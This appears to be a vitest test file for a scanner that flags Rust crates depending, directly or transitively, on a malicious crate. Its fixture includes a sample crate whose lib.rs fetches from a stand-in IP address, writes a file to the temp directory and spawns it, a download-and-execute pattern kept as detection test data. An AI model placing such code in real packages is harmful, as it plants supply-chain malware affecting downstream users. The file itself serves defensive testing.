import { describe, expect, it } from 'vitest';
import { manifest, scanFiles } from '../../../test/fixtures/scanner/crates.js';
import { scanTogether } from './together.js';

const PAYLOAD = {
  'Cargo.toml': manifest('payload-units', { version: '0.1.4' }),
  'src/lib.rs':
    'pub fn parse() { let b = ureq::get("http://198.51.100.23/p").call(); let p = std::env::temp_dir().join("h"); std::fs::write(&p, "x").unwrap(); std::process::Command::new(&p).spawn().unwrap(); let _ = b; }',
};

describe('scanTogether', () => {
  it('flags crates that depend on a flagged crate, directly or through others', async () => {
    const payload = await scanFiles(PAYLOAD);
    const wrapper = await scanFiles({
      'Cargo.toml': manifest('wrapper', { extra: '[dependencies]\npayload-units = "0.1.4"\n' }),
      'src/lib.rs': 'pub use payload_units::parse;',
    });
    const outer = await scanFiles({
      'Cargo.toml': manifest('outer', { extra: '[dependencies]\nwrapper = "0.1"\n' }),
      'src/lib.rs': 'pub use wrapper::parse;',
    });
    const devOnly = await scanFiles({
      'Cargo.toml': manifest('dev-only', { extra: '[dev-dependencies]\npayload-units = "0.1"\n' }),
      'src/lib.rs': '',
    });
    const otherVersion = await scanFiles({
      'Cargo.toml': manifest('pinned-old', { extra: '[dependencies]\npayload-units = "=0.1.3"\n' }),
      'src/lib.rs': '',
    });
    expect(payload.verdict).toBe('critical');
    expect([wrapper.verdict, outer.verdict]).toEqual(['clean', 'clean']);

    const [p, w, o, d, v] = scanTogether([payload, wrapper, outer, devOnly, otherVersion]);
    expect(p!.verdict).toBe('critical');
    expect(p!.findings.some((f) => f.ruleId === 'together.flagged-dependency')).toBe(false);
    expect(w!.verdict).toBe('critical');
    expect(w!.findings[0]!.evidence).toBe('wrapper 0.1.0 → payload-units 0.1.4 (verdict critical)');
    expect(o!.verdict).toBe('high');
    expect(o!.findings[0]!.evidence).toContain('outer 0.1.0 → wrapper 0.1.0 → payload-units 0.1.4');
    expect(d!.verdict).toBe('clean');
    expect(v!.verdict).toBe('clean');
  });

  it('is idempotent and handles cycles and empty input', async () => {
    expect(scanTogether([])).toEqual([]);
    const a = await scanFiles({
      'Cargo.toml': manifest('cyc-a', { extra: '[dependencies]\ncyc-b = "0.1"\n' }),
      'src/lib.rs': '',
    });
    const b = await scanFiles({
      'Cargo.toml': manifest('cyc-b', { extra: '[dependencies]\ncyc-a = "0.1"\n' }),
      'src/lib.rs': '',
    });
    const once = scanTogether([a, b]);
    expect(once.map((r) => r.verdict)).toEqual(['clean', 'clean']);
    const payload = await scanFiles(PAYLOAD);
    const w = await scanFiles({
      'Cargo.toml': manifest('w2', { extra: '[dependencies]\npayload-units = "0.1"\n' }),
      'src/lib.rs': '',
    });
    const first = scanTogether([payload, w]);
    const second = scanTogether(first);
    expect(second[1]!.findings.filter((f) => f.ruleId === 'together.flagged-dependency')).toHaveLength(1);
  });
});
